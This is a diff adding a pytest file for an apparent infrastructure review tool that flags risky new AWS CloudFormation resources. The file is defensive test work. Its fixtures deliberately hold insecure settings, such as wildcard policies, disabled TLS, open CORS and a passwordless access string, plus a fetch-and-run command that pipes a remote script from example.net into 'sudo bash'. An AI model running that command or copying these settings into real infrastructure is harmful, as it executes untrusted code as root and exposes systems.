@@ -1,0 +1,150 @@
+"""What a new resource of any type means by the kind of its type, what it leaves out, and what it uses."""
+
+from typing import Any, Final
+
+import pytest
+
+from ops.review.additions import kinds_known
+from ops.review.anywhere import safeguards
+from ops.review.catalogue import rules
+from ops.review.comparing import compare
+from ops.review.engine import Engine
+from ops.review.finding import Finding, Severity
+from ops.review.judgements import judgements
+from ops.review.new_values import fits
+from ops.review.review import judged
+from ops.templates.assembly import Assembly
+from ops.templates.schemas import resource_types
+from tests.support.review.application import Application
+
+OPTIONS: Final = {"HttpMethod": "OPTIONS", "AuthorizationType": "NONE"}
+ANY: Final = {"Statement": [{"Effect": "Allow", "Action": "iot:*", "Resource": "*"}]}
+OWN: Final = {"Statement": [{"Effect": "Allow", "Action": "iot:*", "Resource": "arn:aws:iot:::topic/own"}]}
+IN_TEXT: Final = '[{"AllowFromPublic": true}]'
+EBS: Final = {"LaunchTemplateData": {"BlockDeviceMappings": [{"Ebs": {"VolumeSize": 8}}]}}
+SAFE: Final = {"HttpTokens": "required"}
+OF_SNAPSHOT: Final = {
+    "LaunchTemplateData": {"MetadataOptions": SAFE, "BlockDeviceMappings": [{"Ebs": {"SnapshotId": "snap-1"}}]}
+}
+NO_TLS: Final = {"Parameters": [{"ParameterName": "require_ssl", "ParameterValue": "false"}]}
+ADMINISTRATOR: Final = "arn:aws:iam::aws:policy/AdministratorAccess"
+ELSEWHERE: Final = {"Bucket": "arn:aws:s3:::partner"}
+FOR_ALL: Final = {"AllowedOrigins": ["*"], "AllowedMethods": ["PUT"]}
+FETCHED: Final = "curl -s https://example.net/i.sh | sudo bash"
+PASSES: Final = {"Action": "PASS", "Header": {"Source": "ANY", "Destination": "ANY"}}
+KEY: Final = "AKIAIOSFODNN7EXAMPLE"
+RECORD: Final = {"Type": "CNAME", "ResourceRecords": ["www.example.net"]}
+PROOF: Final = {"Type": "TXT", "ResourceRecords": ['"a=b.c"']}
+
+
+def _risks(application: Application, dev: Assembly, engine: Engine) -> list[Finding]:
+    found = judged(compare(dev, application.assembly(), engine, dev.region), None)
+    return [it for it in found if it.severity is Severity.RISK]
+
+
+@pytest.mark.parametrize(
+    ("kind", "properties", "rule"),
+    [
+        ("AWS::EC2::ClientVpnRoute", {}, "network-joined"),
+        ("AWS::ApplicationSignals::Discovery", {}, "account-setting"),
+        ("AWS::IoT::CACertificate", {}, "credentials"),
+        ("AWS::SSM::MaintenanceWindowTask", {}, "acts-by-itself"),
+        ("AWS::Kinesis::Stream", {"ShardCount": 1}, "unencrypted"),
+        ("AWS::EC2::LaunchTemplate", EBS, "unencrypted"),
+        ("AWS::Route53::HealthCheck", {"HealthCheckConfig": {"Disabled": True}}, "made-off"),
+        ("AWS::IoT::Policy", {"PolicyDocument": ANY}, "wildcard-action"),
+        ("AWS::OpenSearchServerless::SecurityPolicy", {"Policy": IN_TEXT}, "public"),
+        ("AWS::Route53::RecordSet", RECORD, "name-led"),
+        ("AWS::Batch::JobDefinition", {"Parameters": {"id": KEY}}, "secret-in-template"),
+        ("AWS::Batch::JobDefinition", {"Env": [{"Name": "DB_PASSWORD", "Value": "x"}]}, "secret-in-template"),
+        ("AWS::Lambda::Url", {"Cors": {"AllowOrigins": ["*"], "AllowCredentials": True}}, "cross-origin"),
+        ("AWS::SQS::Queue", {"MessageRetentionPeriod": 60}, "kept-briefly"),
+        ("AWS::WAFv2::RuleGroup", {"Rules": [{"OverrideAction": {"Count": {}}}]}, "guard-off"),
+        ("AWS::Redshift::ClusterParameterGroup", NO_TLS, "unencrypted"),
+        ("AWS::ElasticLoadBalancingV2::LoadBalancer", {"Type": "network"}, "public-address"),
+        ("AWS::EC2::LaunchTemplate", {"LaunchTemplateData": {}}, "credentials-reachable"),
+        ("AWS::Chatbot::SlackChannelConfiguration", {"GuardrailPolicies": [ADMINISTRATOR]}, "policy-attached"),
+        ("AWS::MemoryDB::User", {"AccessString": "on nopass ~* +@all"}, "public"),
+        ("AWS::S3::Bucket", {"ReplicationConfiguration": {"Rules": [{"Destination": ELSEWHERE}]}}, "sent-elsewhere"),
+        ("AWS::S3::Bucket", {"CorsConfiguration": {"CorsRules": [FOR_ALL]}}, "cross-origin"),
+        ("AWS::ImageBuilder::Component", {"Data": FETCHED}, "code-from-elsewhere"),
+        ("AWS::NetworkFirewall::RuleGroup", {"Rules": [PASSES]}, "guard-off"),
+        ("AWS::Cognito::UserPoolClient", {"RefreshTokenValidity": 3650}, "sign-in-weak"),
+        ("AWS::MemoryDB::Cluster", {"ACLName": "open-access"}, "public"),
+    ],
+)  # fmt: skip
+def test_what_a_new_resource_says_or_leaves_out(
+    application: Application, dev: Assembly, engine: Engine, kind: str, properties: dict[str, Any], rule: str
+) -> None:
+    application.add("ComputeStack", "New", kind, properties)
+    assert rule in {it.rule for it in _risks(application, dev, engine)}
+
+
+@pytest.mark.parametrize(
+    ("kind", "properties"),
+    [
+        ("AWS::ApiGateway::Method", OPTIONS),
+        ("AWS::EC2::LaunchTemplate", OF_SNAPSHOT),
+        ("AWS::Kinesis::Stream", {"StreamEncryption": {"EncryptionType": "KMS"}}),
+        ("AWS::Events::Connection", {"InvocationConnectivityParameters": {"Secret": "{{resolve:ssm:/a}}"}}),
+        ("AWS::IoT::Policy", {"PolicyDocument": OWN}),
+        ("AWS::Route53::RecordSet", PROOF),
+        ("AWS::SQS::Queue", {"MessageRetentionPeriod": 86400}),
+        ("AWS::CloudFormation::WaitConditionHandle", {}),
+    ],
+)
+def test_what_only_looks_like_it(
+    application: Application, dev: Assembly, engine: Engine, kind: str, properties: dict[str, Any]
+) -> None:
+    application.add("ComputeStack", "New", kind, properties)
+    assert _risks(application, dev, engine) == []
+
+
+def test_a_new_resource_that_acts_as_a_role_calls_a_function_or_reads_data(
+    application: Application, dev: Assembly, engine: Engine
+) -> None:
+    role = {"Fn::GetAtt": [application.id_of("ArtifactStack", "Release/Handler/Role"), "Arn"]}
+    function = {"Fn::GetAtt": [application.id_of("ArtifactStack", "Release/Handler/Function"), "Arn"]}
+    secret = {"Ref": application.id_of("ArtifactStack", "DatabasePassword")}
+    logs = {"Ref": application.id_of("ArtifactStack", "AccessLogs")}
+    application.add("ArtifactStack", "Alias", "AWS::Glue::Trigger", {"Actions": [{"JobRoleArn": role}]})
+    application.add("ArtifactStack", "Rule", "AWS::Events::Rule", {"Targets": [{"Id": "a", "Arn": function}]})
+    application.add("ArtifactStack", "Reads", "AWS::AppConfig::ConfigurationProfile", {"LocationUri": secret})
+    application.add("ArtifactStack", "Writes", "AWS::MSK::Configuration", {"BrokerLogs": {"S3": {"Bucket": logs}}})
+    told = {(it.logical_id, it.rule) for it in _risks(application, dev, engine)}
+    assert told == {("Alias", "role-used"), ("Rule", "acts-on"), ("Reads", "acts-on")}
+
+
+def test_what_is_there_may_be_named_instead_of_referred_to(
+    application: Application, dev: Assembly, engine: Engine
+) -> None:
+    service = application.properties("ComputeStack", "Service/Service/Service")["ServiceName"]
+    deploy = {"Configuration": {"ServiceName": service}}
+    application.add("ComputeStack", "Pipeline", "AWS::CodePipeline::Pipeline", {"Stages": [{"Actions": [deploy]}]})
+    application.add("ComputeStack", "Alarm", "AWS::CloudWatch::Alarm", {"Dimensions": [{"Value": service}]})
+    (told,) = (it for it in _risks(application, dev, engine) if it.rule == "acts-on")
+    assert told.logical_id == "Pipeline"
+    assert "`ComputeStack/Service/Service/Service` (compute)" in told.message
+
+
+def test_a_parameter_whose_default_is_a_secret(application: Application, dev: Assembly, engine: Engine) -> None:
+    parameters = application.templates["ComputeStack"]["Parameters"]
+    parameters["MailPassword"] = {"Type": "String", "Default": "Correct-Horse-9"}
+    parameters["MailPasswordArn"] = {"Type": "String", "Default": "x"}
+    (told,) = _risks(application, dev, engine)
+    assert (told.rule, "`MailPassword`" in told.message) == ("secret-in-template", True)
+
+
+def test_each_kind_fits_a_type_of_the_registry_and_each_rule_has_a_page() -> None:
+    types = resource_types("us-east-1")
+    its = kinds_known()
+    said = [it.rule for it in (*its.kinds, *its.left_out, *its.left_out_within)]
+    assert {*said, *(it.rule for it in safeguards())} <= rules().keys()
+    patterns = {pattern for kind in its.kinds for pattern in kind.of}
+    patterns |= {pattern for left in its.left_out for pattern in left.of}
+    patterns |= {pattern for it in safeguards() for pattern in it.of}
+    unknown = {it for it in patterns | set(its.watching) if not any(fits(name, (it,)) for name in types)}
+    # Of SAM, which a template holds under names of its own.
+    assert unknown == {"AWS::Serverless::*"}
+    judged_there = {name for name in types if judgements().get(name) and judgements()[name].new}
+    assert not judged_there & {pattern for it in its.kinds for pattern in it.of}
